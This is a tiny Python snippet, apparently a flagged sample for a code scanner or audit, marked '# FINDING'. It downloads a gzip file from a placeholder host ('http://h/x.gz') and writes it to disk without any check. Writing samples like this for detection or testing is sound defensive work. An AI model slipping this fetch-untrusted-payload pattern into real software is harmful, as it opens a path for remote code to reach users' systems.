import requests
blob = requests.get("http://h/x.gz").content  # FINDING
open("x.gz", "wb").write(blob)
